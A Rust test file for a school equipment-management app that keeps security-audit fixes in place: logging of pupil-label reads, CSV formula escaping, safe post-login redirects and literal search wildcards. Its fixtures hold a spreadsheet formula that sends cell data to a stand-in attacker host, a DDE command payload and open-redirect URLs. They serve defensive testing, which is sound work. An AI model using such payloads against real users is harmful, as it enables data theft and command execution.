//! What a security audit found, each finding kept fixed by a test: reads of pupil labels
//! logged whatever answer shows them, no formula in a CSV export, no redirect to another
//! site after login, search text taken literally.

use axum::http::Method;
use preau_core::with_db;
use serde_json::json;

use crate::harness::{TestApp, first_and_other_school, set_cookie};
use crate::inventory::{ocs_inventory, post_ocs};
use crate::pupils::{export, line};

async fn reads_of(app: &TestApp, object_type: &str, id: i64) -> i64 {
    with_db!(&app.db, p => sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM audit_log WHERE action = 'read_pupils' AND object_type = $1 AND object_id = $2").bind(object_type).bind(id).fetch_one(p).await.unwrap())
}

#[tokio::test]
async fn an_onde_preview_and_the_loans_api_log_the_labels_they_show() {
    let app = TestApp::demo().await;
    let (school, _) = first_and_other_school(&app).await;
    let held: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT COUNT(*) FROM pupils WHERE school_id = $1 AND left_on IS NULL AND label IS NOT NULL").bind(school).fetch_one(p).await.unwrap());
    assert!(held > 1, "the demo's first school has pupils");
    // A one-line export: the preview lists every other pupil as leaving, by label.
    let file = export(&[line(0, "CE1", "CE1 — Mme Roux")]);
    let session = app.login("directeur", "demo").await;
    let before = reads_of(&app, "school", school).await;
    let preview = session
        .post_file(
            &format!("/schools/{school}/onde"),
            &[],
            Some(("file", "extraction.csv", file.as_bytes())),
        )
        .await;
    assert_eq!(preview.status, 200, "{}", preview.body);
    let shown: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT label FROM pupils WHERE school_id = $1 AND left_on IS NULL AND label IS NOT NULL ORDER BY id LIMIT 1").bind(school).fetch_one(p).await.unwrap());
    assert!(
        preview.body.contains(&shown),
        "the preview names departures"
    );
    // Nothing was imported, yet the read is in the log, and names no pupil.
    let after: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT COUNT(*) FROM pupils WHERE school_id = $1 AND left_on IS NULL AND label IS NOT NULL").bind(school).fetch_one(p).await.unwrap());
    assert_eq!(after, held);
    assert_eq!(reads_of(&app, "school", school).await, before + 1);
    let (who, what): (String, String) = with_db!(&app.db, p => sqlx::query_as("SELECT actor_login, object_label FROM audit_log WHERE action = 'read_pupils' AND object_type = 'school' AND object_id = $1 ORDER BY id DESC LIMIT 1").bind(school).fetch_one(p).await.unwrap());
    assert_eq!(who, "directeur");
    assert!(what.contains("ONDE") && !what.contains(&shown), "{what}");

    // The loans API answers with the pupil's label: lending and returning log it.
    let token = app.token("admin").await;
    let (loan, pupil, device): (i64, i64, i64) = with_db!(&app.db, p => sqlx::query_as("SELECT l.id, l.pupil_id, l.device_id FROM loans l JOIN pupils p ON p.id = l.pupil_id WHERE l.returned_on IS NULL AND p.label IS NOT NULL ORDER BY l.id LIMIT 1").fetch_one(p).await.unwrap());
    let school: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT school_id FROM loans WHERE id = $1").bind(loan).fetch_one(p).await.unwrap());
    let back = app
        .api(
            &token,
            Method::POST,
            &format!("/api/v1/loans/{loan}/return"),
            Some(json!({"state": "ok"})),
        )
        .await;
    assert_eq!(back.status, 200, "{}", back.body);
    assert!(back.json()["pupil_label"].is_string());
    assert_eq!(reads_of(&app, "loan", loan).await, 1);
    let asset: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT COALESCE(asset_tag, serial) FROM devices WHERE id = $1").bind(device).fetch_one(p).await.unwrap());
    let again = app
        .api(
            &token,
            Method::POST,
            "/api/v1/loans",
            Some(json!({"school_id": school, "kind": "eleve", "pupil_id": pupil, "device": asset})),
        )
        .await;
    assert_eq!(again.status, 201, "{}", again.body);
    let new_loan = again.json()["id"].as_i64().unwrap();
    assert!(again.json()["pupil_label"].is_string());
    assert_eq!(reads_of(&app, "loan", new_loan).await, 1);
}

#[tokio::test]
async fn csv_exports_never_carry_a_formula() {
    let app = TestApp::demo().await;
    let (school, _) = first_and_other_school(&app).await;
    let uai: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT uai FROM schools WHERE id = $1").bind(school).fetch_one(p).await.unwrap());
    let name = "=HYPERLINK(\"http://attacker.invalid/?x=\"&amp;B2,\"Voir\")";
    let serial = "@SUM(1+1)*cmd|' /C calc'!A0";
    let body = ocs_inventory(
        "formula-2026-12-02-10-00-00",
        name,
        None,
        Some(serial),
        Some(&uai),
        Some(3),
    );
    let r = post_ocs(&app, body).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let admin = app.login("admin", "demo").await;
    let csv = admin
        .get("/devices/export/materiel.csv?search=attacker")
        .await;
    assert_eq!(csv.status, 200);
    let lines: Vec<&str> = csv.body.lines().collect();
    assert_eq!(lines.len(), 2, "{}", csv.body);
    for cell in lines[1].split(';') {
        let cell = cell.trim_matches('"');
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell} would run as a formula"
        );
    }
    assert!(lines[1].contains("'=HYPERLINK(") && lines[1].contains("'@SUM(1+1)"));
    // The same device as XLSX keeps its text as typed (cells there are text, not formulas).
    let xlsx = admin
        .get("/devices/export/materiel.xlsx?search=attacker")
        .await;
    assert_eq!(xlsx.status, 200);
    assert!(xlsx.bytes.starts_with(b"PK"));
}

#[tokio::test]
async fn after_login_only_a_path_of_this_site_is_followed() {
    let app = TestApp::demo().await;
    for (next, to) in [
        ("/%09/evil.example/", "/"),
        ("//evil.example/", "/"),
        ("/%5Cevil.example", "/"),
        ("https://evil.example/", "/"),
        ("/%0d%0a/evil.example", "/"),
        ("/tickets%3Fstatus%3Dall", "/tickets?status=all"),
    ] {
        let page = app
            .request(Method::GET, &format!("/login?next={next}"), &[], None)
            .await;
        assert_eq!(page.status, 200);
        assert!(!page.body.contains("evil.example"), "{next}");
        let anon = set_cookie(&page, "preau_csrf").unwrap();
        let resp = app
            .request(
                Method::POST,
                "/login",
                &[
                    ("cookie", format!("preau_csrf={anon}")),
                    ("content-type", "application/x-www-form-urlencoded".into()),
                ],
                Some(format!("csrf={anon}&login=admin&password=demo&next={next}")),
            )
            .await;
        assert_eq!(resp.status, 303, "{next}");
        assert_eq!(resp.location(), to, "{next}");
    }
}

#[tokio::test]
async fn search_wildcards_are_searched_for_not_obeyed() {
    let app = TestApp::demo().await;
    let token = app.token("admin").await;
    let all_devices = app.scalar("SELECT COUNT(*) FROM devices").await;
    assert!(all_devices > 100);
    for uri in [
        "/api/v1/devices?search=%25",
        "/api/v1/schools?q=%25",
        "/api/v1/tickets?status=all&q=%25",
    ] {
        let r = app.api(&token, Method::GET, uri, None).await;
        assert_eq!(r.status, 200, "{uri}: {}", r.body);
        assert_eq!(r.json()["items"].as_array().unwrap().len(), 0, "{uri}");
    }
    // A percent sign in a name is found as such, and only there.
    with_db!(&app.db, p => sqlx::query("UPDATE devices SET name = 'Remise 100% tablette', search_key = 'remise 100% tablette' WHERE id = (SELECT MIN(id) FROM devices)").execute(p).await.unwrap().rows_affected());
    let r = app
        .api(&token, Method::GET, "/api/v1/devices?search=100%25", None)
        .await;
    assert_eq!(r.json()["items"].as_array().unwrap().len(), 1, "{}", r.body);
    let r = app
        .api(&token, Method::GET, "/api/v1/schools?q=ecole", None)
        .await;
    assert!(!r.json()["items"].as_array().unwrap().is_empty());
}
